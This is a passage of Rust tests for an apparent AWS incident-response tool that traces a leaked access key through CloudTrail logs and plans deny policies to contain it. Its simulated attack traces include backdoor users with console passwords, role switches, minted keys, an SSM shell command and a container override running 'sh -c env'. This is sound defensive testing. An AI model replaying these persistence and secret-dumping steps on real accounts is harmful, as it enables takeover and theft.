    let many: Vec<Value> = (0..300)
        .map(|i| json!({"accountId": MAIN, "type": "AWS::DynamoDB::Table", "ARN": format!("arn:aws:dynamodb:us-east-1:{MAIN}:table/t{i:03}")}))
        .collect();
    let request = json!({"requestItems": "many"});
    s.data_event(
        &hop,
        T0 + 60,
        MAIN,
        "dynamodb.amazonaws.com",
        "BatchGetItem",
        request,
        json!(many),
    );
    let express = "loot--use1-az4--x-s3";
    let request = json!({"bucketName": express, "key": "a.csv"});
    let resources = json!([{"accountId": MAIN, "type": "AWS::S3Express::Object", "ARN": format!("arn:aws:s3express:us-east-1:{MAIN}:bucket/{express}/a.csv")}]);
    s.data_event(&hop, T0 + 90, MAIN, "s3express.amazonaws.com", "GetObject", request, resources);
    let d = write(&s, &[SECOND]);
    let p = plan(&d, LEAKED, "strict");
    let denies = actions(&p, "resource_policy_deny");
    let named: Vec<&str> = denies.iter().map(|a| a["principal_arn"].as_str().unwrap()).collect();
    assert!(named.contains(&format!("arn:aws:dynamodb:us-east-1:{MAIN}:table/t000").as_str()));
    assert!(named.contains(&format!("arn:aws:dynamodb:us-east-1:{MAIN}:table/t255").as_str()));
    assert!(!named.iter().any(|n| n.ends_with("t256")), "past the cap: {named:?}");
    let directory = format!("arn:aws:s3express:us-east-1:{MAIN}:bucket/{express}");
    assert!(named.contains(&directory.as_str()), "{named:?}");
    assert!(!named.iter().any(|n| n.starts_with("arn:aws:s3:::")), "{named:?}");
    assert!(!named.iter().any(|n| n.contains("truncated")), "no deny names a marker: {named:?}");
    let reviews = actions(&p, "review");
    let review = reviews
        .iter()
        .find(|a| a["reason"].as_str().unwrap().contains("did not keep in full"))
        .unwrap_or_else(|| panic!("the uncovered resources are a review item: {reviews:?}"));
    assert_eq!(review["account_id"], MAIN, "{review}");
    let hop_arn = format!("arn:aws:sts::{SECOND}:assumed-role/Hop/hop");
    assert!(review["reason"].as_str().unwrap().contains(&hop_arn), "{review}");
    let (_, b, _) = run(&["blast", "--format", "json", "--key", LEAKED], &d);
    assert!(b["resources"].to_string().contains("44 more resources"), "blast says so too: {b}");
}

/// A forged session name that a `StringLike` pattern reads as a wildcard (`*`) or as an
/// escape (`${*}`): the surgical deny names it literally, so it neither widens to every
/// session of the role (alice's would be collateral) nor narrows to a name no session has
/// (the attacker's session would stay live while verify said covered).
#[test]
fn a_session_name_holding_pattern_characters_is_denied_literally() {
    for name in ["*", "x${*}y", "a?"] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let alice = s.user_key(MAIN, "alice", "AKIAEXAMPLEALICE0001");
        let role = format!("arn:aws:iam::{MAIN}:role/Deploy");
        let mine = s.assume_role(&alice, T0 - 60, &role, "ops", 7200);
        s.call(&mine, T0 + 30, "s3.amazonaws.com", "ListBuckets", Value::Null);
        let bad = s.assume_role(&leaked, T0, &role, name, 7200);
        s.call(&bad, T0 + 60, "s3.amazonaws.com", "ListBuckets", Value::Null);
        let d = write(&s, &[]);
        let p = plan(&d, LEAKED, "surgical");
        let put = actions(&p, "put_role_policy");
        let deny = put
            .iter()
            .find(|a| a["principal_arn"].as_str().is_some_and(|x| x.ends_with(":role/Deploy")))
            .unwrap_or_else(|| panic!("{name}: Deploy is denied: {p}"));
        let ids = deny["policy_document"]["Statement"][0]["Condition"]["StringLike"]["aws:userid"]
            .as_array()
            .unwrap_or_else(|| panic!("{name}: surgical, by aws:userid: {deny}"));
        assert_eq!(ids.len(), 1, "{deny}");
        let id = ids[0].as_str().unwrap();
        let escaped = name.replace('$', "${$}").replace('*', "${*}").replace('?', "${?}");
        assert!(id.ends_with(&format!(":{escaped}")), "{name}: {id}");
        assert_eq!(p["summary"]["collateral_sessions"], 0, "{name}: alice's session spared: {p}");
        let (code, v) = verify(&d, &p);
        assert_eq!(code, 0, "{name}: {v}");
    }
}

/// The leaked key makes user `backdoor` with a console password; the attacker signs in and
/// switches to AdminRole in the console. No call issues the role session (only a
/// `SwitchRole` sign-in record, which carries no key): it is named after the user and must be
/// tainted through the console session it came from. alice does the same from her own
/// console session: hers is not the attacker's.
#[test]
fn a_role_the_attackers_user_switched_to_in_the_console_is_denied() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let role = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    let alice = s.console_login(MAIN, T0 - 120, "alice");
    let hers = s.switch_role(&alice, T0 - 60, &role);
    s.call(&hers, T0 - 50, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.create_user(&leaked, T0 + 10, "backdoor");
    s.create_login_profile(&leaked, T0 + 20, "backdoor");
    let console = s.console_login(MAIN, T0 + 120, "backdoor");
    s.call(&console, T0 + 130, "iam.amazonaws.com", "ListRoles", Value::Null);
    let admin = s.switch_role(&console, T0 + 180, &role);
    s.call(&admin, T0 + 200, "iam.amazonaws.com", "ListUsers", Value::Null);
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    assert!(tainted.contains(&admin.node_id()), "{tainted:?}");
    assert!(!tainted.contains(&hers.node_id()), "alice's switch is hers: {tainted:?}");
    for strategy in ["strict", "surgical"] {
        let p = plan(&d, LEAKED, strategy);
        let put = actions(&p, "put_role_policy");
        let deny = put
            .iter()
            .find(|a| a["principal_arn"] == role.as_str())
            .unwrap_or_else(|| panic!("{strategy}: AdminRole is denied: {p}"));
        if strategy == "surgical" {
            let ids = deny["policy_document"]["Statement"][0]["Condition"]["StringLike"]
                ["aws:userid"]
                .to_string();
            assert!(ids.contains(":backdoor"), "{ids}");
            assert!(!ids.contains(":alice"), "{ids}");
        }
        let (code, v) = verify(&d, &p);
        assert_eq!(code, 0, "{strategy}: {v}");
    }
}

/// The leaked key of ci-deployer assumes DataAdmin in another account through a regional STS
/// endpoint whose region ci-deployer's trail does not record: only the role owner's copy is
/// in the trail, naming the caller by its user id (`AIDA…`), which is the leaked key's own.
/// The session must be tainted and denied, not left to the account node.
#[test]
fn a_role_owners_copy_naming_the_leaked_keys_user_links_the_session_to_it() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.call(&leaked, T0 - 30, "sts.amazonaws.com", "GetCallerIdentity", Value::Null);
    let role = format!("arn:aws:iam::{SECOND}:role/DataAdmin");
    let hop = s.assume_role(&leaked, T0, &role, "x", 7200);
    s.call(&hop, T0 + 60, "s3.amazonaws.com", "ListBuckets", Value::Null);
    // Only ci-deployer's own account's copy of the AssumeRole is dropped.
    s.drop_records(|account, r| account == MAIN && r["eventName"] == "AssumeRole");
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    assert!(tainted.contains(&hop.node_id()), "{tainted:?}");
    for strategy in ["strict", "surgical"] {
        let p = plan(&d, LEAKED, strategy);
        assert!(
            actions(&p, "put_role_policy").iter().any(|a| a["principal_arn"] == role.as_str()),
            "{strategy}: DataAdmin is denied: {p}"
        );
        let (code, v) = verify(&d, &p);
        assert_eq!(code, 0, "{strategy}: {v}");
    }
}

/// A plan edited down to "deactivate the attacker user's keys, then delete the user": IAM
/// refuses DeleteUser (DeleteConflict) while the user still has a key (an inactive one too)
/// or a console password, so the user's live sessions are not cut, and verify must not count
/// the deletion. The plan as made (keys deleted, password and deny-all removed first) verifies.
#[test]
fn verify_does_not_count_a_user_deletion_iam_would_refuse() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.create_user(&leaked, T0 + 10, "backdoor");
    let key = s.create_access_key(&leaked, T0 + 20, Some("backdoor"));
    s.create_login_profile(&leaked, T0 + 30, "backdoor");
    let sts = s.get_session_token(&key, T0 + 60, 36 * 3600);
    s.call(&sts, T0 + 70, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let console = s.console_login(MAIN, T0 + 120, "backdoor");
    s.call(&console, T0 + 130, "iam.amazonaws.com", "ListUsers", Value::Null);
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    assert!(!actions(&p, "delete_user").is_empty(), "{p}");
    assert_eq!(verify(&d, &p).0, 0, "the plan as made");
    let mut edited = p.clone();
    edited["actions"]
        .as_array_mut()
        .unwrap()
        .retain(|a| a["type"] == "deactivate_access_key" || a["type"] == "delete_user");
    let (code, v) = verify(&d, &edited);
    assert_eq!(code, 1, "{v}");
    let notes = v["notes"].to_string();
    assert!(notes.contains("would fail (DeleteConflict)"), "{notes}");
    assert!(notes.contains("console password"), "{notes}");
    assert!(v["not_covered"].to_string().contains(&sts.node_id()), "{v}");
}

/// Routes to a role's sessions that the taint does not follow yet (commands run on an
/// instance through SSM, a role put on an instance, a stack acting with a service role): the
/// plan cannot deny what it does not know, but it must not be silent about them.
#[test]
fn routes_the_taint_does_not_follow_are_review_items_in_the_plan() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let cmd = json!({"documentName": "AWS-RunShellScript", "instanceIds": ["i-0abc1234def567890"]});
    s.call(&leaked, T0, "ssm.amazonaws.com", "SendCommand", cmd);
    let assoc =
        json!({"instanceId": "i-0abc1234def567891", "iamInstanceProfile": {"name": "Admin"}});
    s.call(&leaked, T0 + 10, "ec2.amazonaws.com", "AssociateIamInstanceProfile", assoc);
    let stack = json!({"stackName": "monitoring", "roleARN": format!("arn:aws:iam::{MAIN}:role/CFNDeployRole")});
    s.call(&leaked, T0 + 20, "cloudformation.amazonaws.com", "CreateStack", stack);
    // Instances started by Auto Scaling or a fleet from a template naming a profile, and a
    // key pushed into an instance (a review reproduced the first two with plan/verify OK).
    let template = json!({"launchTemplateName": "web", "launchTemplateData": {"iamInstanceProfile": {"name": "WebAdmin"}}});
    s.call(&leaked, T0 + 30, "ec2.amazonaws.com", "CreateLaunchTemplate", template);
    let group =
        json!({"autoScalingGroupName": "web", "launchTemplate": {"launchTemplateName": "web"}});
    s.call(&leaked, T0 + 40, "autoscaling.amazonaws.com", "CreateAutoScalingGroup", group);
    let fleet = json!({"type": "instant", "launchTemplateConfigs": [{"launchTemplateSpecification": {"launchTemplateName": "web"}}]});
    s.call(&leaked, T0 + 50, "ec2.amazonaws.com", "CreateFleet", fleet);
    let ssh = json!({"instanceId": "i-0abc1234def567892", "instanceOSUser": "ec2-user"});
    s.call(&leaked, T0 + 60, "ec2-instance-connect.amazonaws.com", "SendSSHPublicKey", ssh);
    let pool = json!({"identityPoolId": "us-east-1:11111111-2222-3333-4444-555555555555", "roles": {"authenticated": format!("arn:aws:iam::{MAIN}:role/Admin")}});
    s.call(&leaked, T0 + 70, "cognito-identity.amazonaws.com", "SetIdentityPoolRoles", pool);
    let swap = json!({"instanceProfileName": "AppProfile", "roleName": "AdminRole"});
    s.call(&leaked, T0 + 80, "iam.amazonaws.com", "AddRoleToInstanceProfile", swap);
    let d = write(&s, &[]);
    // None of them is cut: the plan says so and exits 1 (`unfollowed_routes_fail_…` below).
    let args = ["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT];
    let (code, p, err) = run(&args, &d);
    assert_eq!(code, 1, "{err}");
    assert_eq!(p["summary"]["routes_not_followed"], 9, "{}", p["summary"]);
    let reviews: Vec<String> =
        actions(&p, "review").iter().map(|a| a["reason"].as_str().unwrap().to_string()).collect();
    for call in [
        "SendCommand",
        "AssociateIamInstanceProfile",
        "CreateStack",
        "CreateLaunchTemplate",
        "CreateAutoScalingGroup",
        "CreateFleet",
        "SendSSHPublicKey",
        "SetIdentityPoolRoles",
        "AddRoleToInstanceProfile",
    ] {
        assert!(
            reviews.iter().any(|r| r.starts_with(call) && r.contains("NOT FOLLOWED")),
            "{call}: {reviews:?}"
        );
    }
    assert!(reviews.iter().any(|r| r.contains("instance/i-0abc1234def567891")), "{reviews:?}");
    assert!(reviews.iter().any(|r| r.contains("instance/i-0abc1234def567892")), "{reviews:?}");
}

/// A task, build or job handed a role runs what its caller chose with the role's sessions,
/// which the service renews by itself (F21) under names the logs do not tie to the call: the
/// taint does not follow them. A review found the leaked key's `RunTask` of an existing task
/// definition with plan exit 0 and verify OK. Now each such call of a tainted credential is a
/// NOT FOLLOWED review item, the plan exits 1 with a WARNING in plan.sh, and verify fails
/// naming it; the same calls by a clean key, and a refused call, are not counted.
#[test]
fn unfollowed_routes_fail_the_plan_and_verify() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let clean = s.user_key(MAIN, "release-bot", "AKIAI44QH8DHBEXAMPLE");
    let task = json!({"cluster": "prod", "taskDefinition": "billing-export:7", "overrides": {"containerOverrides": [{"name": "app", "command": ["sh", "-c", "env"]}]}});
    s.call(&leaked, T0, "ecs.amazonaws.com", "RunTask", task.clone());
    let build = json!({"projectName": "deploy", "buildspecOverride": "version: 0.2"});
    s.call(&leaked, T0 + 10, "codebuild.amazonaws.com", "StartBuild", build.clone());
    // The same names at another service are not these calls (Cloud Map's CreateService,
    // which hands it no role).
    let map = json!({"name": "api", "namespaceId": "ns-example1234567"});
    s.call(&leaked, T0 + 20, "servicediscovery.amazonaws.com", "CreateService", map);
    // Refused, or by a key the leak never touched: not the attacker's.
    let refused = json!({"jobName": "etl"});
    s.call_full(
        &leaked,
        T0 + 30,
        "glue.amazonaws.com",
        "StartJobRun",
        refused,
        Value::Null,
        Some("AccessDenied"),
        "aws-cli/2.15.0",
    );
    s.call(&clean, T0 + 40, "ecs.amazonaws.com", "RunTask", task);
    s.call(&clean, T0 + 50, "codebuild.amazonaws.com", "StartBuild", build);
    let d = write(&s, &[]);
    let dir = d.path().to_str().unwrap();
    let (pj, sh) = (format!("{dir}/plan.json"), format!("{dir}/plan.sh"));
    let args = ["plan", "--key", LEAKED, "--effective-at", CUT, "-o", &pj, "--script", &sh];
    let (code, _, err) = run(&args, &d);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("2 call(s) of tainted credentials opened a route"), "{err}");
    let p: Value = serde_json::from_slice(&std::fs::read(&pj).unwrap()).unwrap();
    assert_eq!(p["summary"]["routes_not_followed"], 2, "{}", p["summary"]);
    let reviews = review_reasons(&p);
    for call in ["RunTask", "StartBuild"] {
        let n =
            reviews.iter().filter(|r| r.starts_with(call) && r.contains("NOT FOLLOWED")).count();
        assert_eq!(n, 1, "{call}: {reviews:?}");
    }
    assert!(
        !reviews
            .iter()
            .any(|r| r.starts_with("CreateService (servicediscovery")
                || r.starts_with("StartJobRun")),
        "{reviews:?}"
    );
    let script = std::fs::read_to_string(&sh).unwrap();
    assert!(
        script.contains("# WARNING: 2 call(s) of tainted credentials opened a route"),
        "{script}"
    );
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 1, "{v}");
    assert_eq!(v["verdict"], "FAIL", "{v}");
    let notes: Vec<&str> =
        v["notes"].as_array().unwrap().iter().filter_map(|n| n.as_str()).collect();
    let named: Vec<&&str> = notes.iter().filter(|n| n.starts_with("NOT FOLLOWED:")).collect();
    assert_eq!(named.len(), 2, "{notes:?}");
    assert!(named.iter().all(|n| n.contains(LEAKED)), "{named:?}");

    // Without the tainted calls the same trail plans and verifies clean.
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let clean = s.user_key(MAIN, "release-bot", "AKIAI44QH8DHBEXAMPLE");
    s.call(&leaked, T0, "sts.amazonaws.com", "GetCallerIdentity", json!({}));
    s.call(
        &clean,
        T0 + 40,
        "ecs.amazonaws.com",
        "RunTask",
        json!({"cluster": "prod", "taskDefinition": "billing-export:7"}),
    );
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    assert!(p["summary"].get("routes_not_followed").is_none(), "{}", p["summary"]);
    let (code, v) = verify(&d, &p);
    assert_eq!((code, v["verdict"].as_str()), (0, Some("OK")), "{v}");
}

/// More than 64 credentials alive with the caller's id (the attacker can make them on purpose:
/// 65 `AssumeRole` calls with one session name, 65 GetSessionToken sessions, 65 console
/// sign-ins) must not let a call seen only by its `aws:userid` escape: the session it made is
/// tainted when one of them is (the taint decides, no edge from each), and denied. The same
/// shape by a user the leak never touched (alice) stays untainted.
#[test]
fn a_call_with_more_possible_makers_than_are_linked_is_still_tainted() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let alice_key = s.user_key(MAIN, "alice", "AKIAI44QH8DHBEXAMPLE");
    s.call(&alice_key, T0 - 100, "sts.amazonaws.com", "GetCallerIdentity", Value::Null);
    // 1. The role owner's copy names a role session (`AROA…:x`) of which 65 are alive.
    let (pivot, pivot2) =
        (format!("arn:aws:iam::{MAIN}:role/Pivot"), format!("arn:aws:iam::{MAIN}:role/Pivot2"));
    let (data, data2) = (
        format!("arn:aws:iam::{SECOND}:role/DataAdmin"),
        format!("arn:aws:iam::{SECOND}:role/DataAdmin2"),
    );
    let mut last = None;
    let mut hers = None;
    for i in 0..65 {
        last = Some(s.assume_role(&leaked, T0 + i, &pivot, "x", 3600));
        hers = Some(s.assume_role(&alice_key, T0 + i, &pivot2, "x", 3600));
    }
    let hop = s.assume_role(last.as_ref().unwrap(), T0 + 100, &data, "y", 3600);
    s.call(&hop, T0 + 160, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let her_hop = s.assume_role(hers.as_ref().unwrap(), T0 + 100, &data2, "y", 3600);
    s.call(&her_hop, T0 + 160, "s3.amazonaws.com", "ListBuckets", Value::Null);
    // 2. The role owner's copy names the leaked key's user (`AIDA…`), which has 65 sessions.
    for i in 0..65 {
        s.get_session_token(&leaked, T0 + 200 + i, 3600);
    }
    let ops = format!("arn:aws:iam::{SECOND}:role/OpsAdmin");
    let by_user = s.assume_role(&leaked, T0 + 300, &ops, "z", 3600);
    s.call(&by_user, T0 + 310, "s3.amazonaws.com", "ListBuckets", Value::Null);
    // Only the role owners' copies of the cross-account calls are in the trail.
    s.drop_records(|account, r| {
        let target = r["requestParameters"]["roleArn"].as_str().unwrap_or("");
        account == MAIN && [&data, &data2, &ops].iter().any(|t| t.as_str() == target)
    });
    // 3. A console switch-role from a user with 65 console sessions alive.
    s.create_user(&leaked, T0 + 400, "backdoor");
    s.create_login_profile(&leaked, T0 + 410, "backdoor");
    let mut console = None;
    for i in 0..65 {
        let c = s.console_login(MAIN, T0 + 500 + i, "backdoor");
        s.call(&c, T0 + 600 + i, "iam.amazonaws.com", "ListRoles", Value::Null);
        console = Some(c);
    }
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    let switched = s.switch_role(console.as_ref().unwrap(), T0 + 700, &admin);
    s.call(&switched, T0 + 710, "iam.amazonaws.com", "ListUsers", Value::Null);
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    let missing: Vec<_> = [&hop, &by_user, &switched]
        .iter()
        .filter(|c| !tainted.contains(&c.node_id()))
        .map(|c| c.node_id())
        .collect();
    assert!(missing.is_empty(), "MISSING {missing:?}");
    assert!(!tainted.contains(&her_hop.node_id()), "alice's hop is hers: {tainted:?}");
    let (_, b, _) = run(&["blast", "--key", LEAKED, "--format", "json"], &d);
    let notes = b["notes"].to_string();
    assert!(notes.contains(&format!("{} is tainted because", hop.node_id())), "{notes}");
    // The tree of the key draws what the taint takes, not only what its edges reach.
    let (_, tree, err) = run(&["sessions", "--key", LEAKED, "--format", "json"], &d);
    let drawn: Vec<&str> =
        tree["nodes"].as_array().unwrap().iter().map(|n| n["id"].as_str().unwrap()).collect();
    for c in [&hop, &by_user, &switched] {
        assert!(drawn.contains(&c.node_id().as_str()), "{} not drawn: {err}", c.node_id());
    }
    assert!(!drawn.contains(&her_hop.node_id().as_str()), "alice's hop is not drawn");
    // The graph a cached run stores and the next run reads keeps these links.
    let cache = d.path().join("cache");
    let cached = ["blast", "--key", LEAKED, "--format", "json", "--cache", cache.to_str().unwrap()];
    for _ in 0..2 {
        assert_eq!(run(&cached, &d).1, b, "cold and warm cached blast");
    }
    for strategy in ["strict", "surgical"] {
        let p = plan(&d, LEAKED, strategy);
        let denied = principals(&p, "put_role_policy");
        for role in [&data, &ops, &admin] {
            assert!(denied.contains(role), "{strategy}: {role} is denied: {denied:?}");
        }
        assert!(!denied.contains(&data2), "{strategy}: {denied:?}");
        let (code, v) = verify(&d, &p);
        assert_eq!(code, 0, "{strategy}: {v}");
    }
}

/// A role assumption logged without its response, seen only in the role owner's copy, whose
/// caller id (`AROA…:x`) two sessions carried at the call (the leaked key's and alice's, one
/// session name): the session it made, found from its use, is linked to both, so it is
/// tainted; with 65 of the leaked key's sessions alive, the taint decides. It used to be left
/// to the account node (plan and verify OK with it live).
#[test]
fn a_response_less_assumption_by_a_shared_session_name_is_tainted() {
    for own in [1, 65] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let alice = s.user_key(MAIN, "alice", "AKIAI44QH8DHBEXAMPLE");
        let pivot = format!("arn:aws:iam::{MAIN}:role/Pivot");
        let mut mine = Vec::new();
        for i in 0..own {
            mine.push(s.assume_role(&leaked, T0 + i, &pivot, "x", 3600));
        }
        s.assume_role(&alice, T0 + 70, &pivot, "x", 3600);
        let data = format!("arn:aws:iam::{SECOND}:role/DataAdmin");
        let hop = s.assume_role_unanswered(&mine[0], T0 + 100, &data, "y", 3600);
        s.call(&hop, T0 + 160, "s3.amazonaws.com", "ListBuckets", Value::Null);
        s.drop_records(|account, r| account == MAIN && r["requestParameters"]["roleArn"] == *data);
        let d = write(&s, &[]);
        let tainted = tainted_ids(&d, LEAKED);
        assert!(tainted.contains(&hop.node_id()), "{own}: {tainted:?}");
        let p = plan(&d, LEAKED, "strict");
        assert!(principals(&p, "put_role_policy").contains(&data), "{own}: {p}");
        assert_eq!(verify(&d, &p).0, 0, "{own}");
    }
}

/// A session whose calls carry no `creationDate` (an instance's role session seen only in use)
/// was issued before its first call: the strict deny of its role, with a cut-off after that
/// call, cuts it, so plan and verify both count it as collateral.
#[test]
fn a_session_with_no_issue_time_that_the_deny_cuts_is_collateral() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let role = format!("arn:aws:iam::{MAIN}:role/AppRole");
    let hop = s.assume_role(&leaked, T0, &role, "x", 7200);
    s.call(&hop, T0 + 10, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let mut instance = s.instance_session(&role, "i-0abc1234def567890", T0 - 600, 6 * 3600);
    instance.issued_at = None;
    s.call(&instance, T0 - 300, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    let put = actions(&p, "put_role_policy");
    let deny = put.iter().find(|a| a["principal_arn"] == role.as_str()).expect("AppRole denied");
    let collateral = deny["collateral"].to_string();
    assert!(
        collateral.contains("i-0abc1234def567890") || collateral.contains(&instance.key),
        "{p}"
    );
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v}");
    assert_eq!(v["collateral"].as_array().unwrap().len(), 1, "{v}");
}

/// A cross-account hop, seen only in the role owner's copy (`AROA…:name`), from a tainted
/// session that no logged call issued: a console switch-role of the attacker's user, and a
/// session whose issuing record lost its response. Such a session is made from its use, after
/// the hops are linked: the hop was left to the account node (with a note saying that
/// account's logs were missing, though they were there), untainted, and plan and verify said
/// OK with it live.
#[test]
fn a_hop_from_a_session_seen_only_in_use_is_linked_through_the_role_owners_copy() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.create_user(&leaked, T0 + 10, "backdoor");
    s.create_login_profile(&leaked, T0 + 20, "backdoor");
    let console = s.console_login(MAIN, T0 + 120, "backdoor");
    s.call(&console, T0 + 130, "iam.amazonaws.com", "ListRoles", Value::Null);
    let admin = s.switch_role(&console, T0 + 180, &format!("arn:aws:iam::{MAIN}:role/AdminRole"));
    s.call(&admin, T0 + 190, "iam.amazonaws.com", "ListUsers", Value::Null);
    let org = format!("arn:aws:iam::{SECOND}:role/OrgAdmin");
    let from_switch = s.assume_role(&admin, T0 + 200, &org, "evil", 7200);
    s.call(&from_switch, T0 + 210, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let pivot = s.assume_role_unanswered(
        &leaked,
        T0 + 300,
        &format!("arn:aws:iam::{MAIN}:role/Pivot"),
        "p",
        7200,
    );
    s.call(&pivot, T0 + 310, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let data = format!("arn:aws:iam::{SECOND}:role/DataAdmin");
    let from_unanswered = s.assume_role(&pivot, T0 + 320, &data, "q", 7200);
    s.call(&from_unanswered, T0 + 330, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.drop_records(|account, r| {
        let target = r["requestParameters"]["roleArn"].as_str().unwrap_or("");
        account == MAIN && (target == org || target == data)
    });
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    for c in [&admin, &pivot, &from_switch, &from_unanswered] {
        assert!(tainted.contains(&c.node_id()), "{}: {tainted:?}", c.node_id());
    }
    let (_, g, _) = run(&["sessions", "--format", "json"], &d);
    let notes = g["notes"].to_string();
    assert!(!notes.contains(&format!("chain stops at account {MAIN}")), "{notes}");
    for strategy in ["strict", "surgical"] {
        let p = plan(&d, LEAKED, strategy);
        let denied = principals(&p, "put_role_policy");
        assert!(denied.contains(&org) && denied.contains(&data), "{strategy}: {denied:?}");
        assert_eq!(verify(&d, &p).0, 0, "{strategy}");
    }
}

/// The leaked key makes user `backdoor` with a console password; the attacker signs in and
/// switches straight to AdminRole, whose session makes a key for the existing user `deploy`.
/// The sign-in's own console session makes no call with its key (a trail of write events, a
/// sign-in that lands on the switch), so only its `ConsoleLogin` shows it: the role session
/// was an orphan no console session could have switched to, never tainted, and the plan
/// exited 0 with verify OK and the new key live (a review). With the `SwitchRole` record and
/// without it (a trail that drops sign-in records' copies elsewhere), the sign-in is a console
/// session of its own and the switch is linked to it.
#[test]
fn a_role_switched_to_from_a_sign_in_with_no_call_of_its_own_is_denied() {
    for switch_record in [true, false] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let role = format!("arn:aws:iam::{MAIN}:role/AdminRole");
        s.create_user(&leaked, T0 + 10, "backdoor");
        s.create_login_profile(&leaked, T0 + 20, "backdoor");
        let console = s.console_login(MAIN, T0 + 120, "backdoor");
        let admin = s.switch_role(&console, T0 + 180, &role);
        let made = s.create_access_key(&admin, T0 + 200, Some("deploy"));
        s.call(&made, T0 + 400, "s3.amazonaws.com", "ListBuckets", Value::Null);
        if !switch_record {
            s.drop_records(|_, r| r["eventName"] == "SwitchRole");
        }
        let d = write(&s, &[]);
        let tainted = tainted_ids(&d, LEAKED);
        for c in [&admin, &made] {
            assert!(tainted.contains(&c.node_id()), "{switch_record}: {}: {tainted:?}", c.key);
        }
        assert!(
            tainted.iter().any(|t| t.starts_with("no-key@")),
            "{switch_record}: the sign-in's session: {tainted:?}"
        );
        for strategy in ["strict", "surgical"] {
            let p = plan(&d, LEAKED, strategy);
            assert!(principals(&p, "put_role_policy").contains(&role), "{strategy}: {p}");
            assert!(deactivated(&p).contains(&made.key.as_str()), "{strategy}: {p}");
            assert_eq!(verify(&d, &p).0, 0, "{switch_record} {strategy}");
        }
        // The same from the trail exported to Parquet, where a sign-in's result is a column.
        let parts = d.path().join("parts");
        let o = bin()
            .args(["export", "-q", "--partition", "-o"])
            .arg(&parts)
            .arg(d.path().join("trail"))
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let o = bin()
            .args(["blast", "-q", "--no-progress", "--format", "json", "--key", LEAKED])
            .arg(&parts)
            .output()
            .unwrap();
        let ids = json(&o.stdout)["credentials"].to_string();
        assert!(
            ids.contains(&admin.node_id()) && ids.contains(&made.key),
            "{switch_record}: {ids}"
        );
    }
}

/// bob's own console session begins; the leaked key resets bob's password 35 s later and the
/// attacker signs in as bob 5 s after that, switches to AdminRole with no call of its own
/// console session, and makes a key for user `deploy`. The sign-in is not bob's session of 40
/// s before (a review: a minute's slack took it for that one, untainted, and the role session
/// with it, plan exit 0 and verify OK with the new key live).
#[test]
fn a_sign_in_soon_after_the_owners_own_is_a_session_of_its_own() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let role = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    let owners = s.console_login(MAIN, T0 + 80, "bob");
    s.call(&owners, T0 + 90, "iam.amazonaws.com", "ListRoles", Value::Null);
    s.update_login_profile(&leaked, T0 + 115, "bob");
    let console = s.console_login(MAIN, T0 + 120, "bob");
    let admin = s.switch_role(&console, T0 + 180, &role);
    let made = s.create_access_key(&admin, T0 + 200, Some("deploy"));
    s.call(&made, T0 + 400, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    assert!(!tainted.contains(&owners.node_id()), "bob's own: {tainted:?}");
    for c in [&admin, &made] {
        assert!(tainted.contains(&c.node_id()), "{}: {tainted:?}", c.key);
    }
    let p = plan(&d, LEAKED, "strict");
    assert!(principals(&p, "put_role_policy").contains(&role), "{p}");
    assert!(deactivated(&p).contains(&made.key.as_str()), "{p}");
    assert_eq!(verify(&d, &p).0, 0);
}

/// The attacker's user `jdoe` (made with the leaked key) has a console session here. A person
/// also called jdoe, signed in to another account (whose logs are not in the trail), switches
/// into AdminRole here from another address and makes user `svc-backup` with a key. The
/// console names both after the user; none of the switched session's calls came from the
/// attacker's console session's address, so it is not taken for the attacker's (the plan
/// deleted svc-backup and its key, exit 0, a review) but checked: AdminRole is denied with a
/// review item, the plan exits 1, verify fails, and svc-backup is not removed. From the same
/// address it is the attacker's switch, linked as before.
#[test]
fn a_switch_role_from_another_address_than_the_console_session_of_its_name_is_checked() {
    for elsewhere in [true, false] {
        let mut s = Scenario::new();
